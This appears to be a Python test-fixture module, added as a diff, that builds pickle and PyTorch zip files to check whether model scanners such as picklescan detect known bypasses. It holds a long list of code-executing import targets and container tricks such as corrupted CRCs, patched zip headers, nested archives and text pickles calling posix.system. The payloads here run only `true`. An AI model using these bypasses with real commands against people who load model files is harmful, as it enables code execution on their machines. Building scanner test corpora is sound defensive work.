@@ -1,0 +1,94 @@
+"""Files that get past scanners, as advisories tell of them: made here, from the facts, to see who finds what.
+
+Names of the classes and functions are those of picklescan's and fickling's own tests and of their published advisories;
+their packages hold no such files. Each payload would only run `true`, or open a file that is not there.
+"""
+
+from __future__ import annotations
+
+import io
+import pickle
+import struct
+import zipfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Final
+
+SHELL: Final = ("true",)
+
+GLOBALS: Final = (
+    ("pip", "main"), ("torch.utils.bottleneck.__main__", "run_cprofile"), ("torch._dynamo.guards", "GuardBuilder.get"),
+    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), ("torch.utils.collect_env", "run"),
+    ("torch.utils._config_module", "ConfigModule.load_config"), ("torch.jit.unsupported_tensor_ops", "execWrapper"),
+    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"), ("torch._inductor.codecache", "compile_file"),
+    ("torch.distributed.elastic.rendezvous.api", "rendezvous_handler_registry"), ("torch.serialization", "load"),
+    ("numpy.f2py.crackfortran", "getlincoef"), ("numpy.testing._private.utils", "runstring"), ("timeit", "timeit"),
+    ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("ensurepip", "_run_pip"), ("trace", "Trace.run"),
+    ("idlelib.autocomplete", "AutoComplete.get_entity"), ("idlelib.calltip", "get_entity"), ("bdb", "Bdb.run"),
+    ("idlelib.debugobj", "ObjectTreeItem.SetText"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
+    ("idlelib.run", "Executive.runcode"), ("lib2to3.pgen2.grammar", "Grammar.loads"), ("doctest", "debug_script"),
+    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), ("cProfile", "runctx"), ("profile", "Profile.run"),
+    ("pydoc", "pipepager"), ("code", "InteractiveInterpreter.runcode"), ("pkgutil", "resolve_name"), ("pty", "spawn"),
+    ("distutils.file_util", "write_file"), ("imaplib", "IMAP4_stream"), ("uuid", "_get_command_stdout"),
+    ("_osx_support", "_read_output"), ("_aix_support", "_read_cmd_output"), ("_pyrepl.pager", "pipe_pager"),
+    ("test.support.script_helper", "assert_python_ok"), ("logging", "FileHandler"), ("_io", "FileIO"),
+    ("urllib.request", "urlopen"), ("ssl", "get_server_certificate"), ("cloudpickle.cloudpickle", "_make_function"),
+    ("_operator", "attrgetter"), ("operator", "methodcaller"), ("venv", "create"), ("runpy", "_run_code"),
+    # found while `check` was written
+    ("torch.nn.functional", "torch.hub.load"), ("torch.nn.modules.linear", "torch.load"), ("torch._VF", "from_file"),
+    ("numpy", "ndarray.tofile"), ("torch.fx.graph_module", "reduce_graph_module"), ("gzip", "GzipFile"),
+)  # fmt: skip
+
+
+def write_bypasses(folder: Path) -> Iterator[str]:
+    """Make all files; their names in the folder."""
+    folder.mkdir(parents=True, exist_ok=True)
+    files = {f"{module}.{name}.pkl": call(module, name) for module, name in GLOBALS}
+    for name, data in {**files, **tricks()}.items():
+        (folder / name).write_bytes(data)
+        yield name
+
+
+def call(module: str, name: str) -> bytes:
+    """A pickle that calls a global with one text."""
+    texts = b"".join(b"\x8c" + bytes([len(text)]) + text.encode() for text in (module, name))
+    return b"\x80\x04" + texts + b"\x93" + pickle.dumps(SHELL, 4)[2:-1] + b"R."
+
+
+def tricks() -> dict[str, bytes]:
+    """Containers that scanners and loaders read differently."""
+    evil = call("posix", "system")
+    honest = pickle.dumps({"a": 1})
+    return {
+        "bad-crc.pt": _broken_crc(_zip(("a/data.pkl", evil))),
+        "flag-bits.pt": _patched(_zip(("a/data.pkl", evil)), b"PK\1\2", 8, b"\1\0"),
+        "local-name.pt": _patched(_zip(("a/data.pkl", evil)), b"PK\3\4", 30, b"b"),
+        "other-extension.pt": _zip(("a/data.pkl", call("torch", "load")), ("a/config.p", evil)),
+        "text-pickle-inside.pt": _zip(("a/data.pkl", honest), ("a/config.p", b"cposix\nsystem\n(Vtrue\ntR.")),
+        "pickle-as.bin": evil,
+        "pickle-as.txt": evil,
+        "text-pickle.pt": b"cposix\nsystem\n(Vtrue\ntR.",
+        "broken-after.pkl": evil[:-1] + b"\xff\xff",
+        "zip-behind-pickle.pt": honest + _zip(("a/data.pkl", evil)),
+        "deflated.pt": _zip(("a/data.pkl", evil), method=zipfile.ZIP_DEFLATED),
+        "inside-zip-inside.pt": _zip(("a/data.pkl", honest), ("a/extra", _zip(("b/data.pkl", evil)))),
+    }
+
+
+def _zip(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", method) as archive:
+        for name, data in members:
+            archive.writestr(name, data)
+    return stream.getvalue()
+
+
+def _patched(data: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
+    at = data.index(signature) + offset
+    return data[:at] + value + data[at + len(value) :]
+
+
+def _broken_crc(data: bytes) -> bytes:
+    for signature, offset in ((b"PK\3\4", 14), (b"PK\1\2", 16)):
+        data = _patched(data, signature, offset, struct.pack("<L", 0x12345678))
+    return data
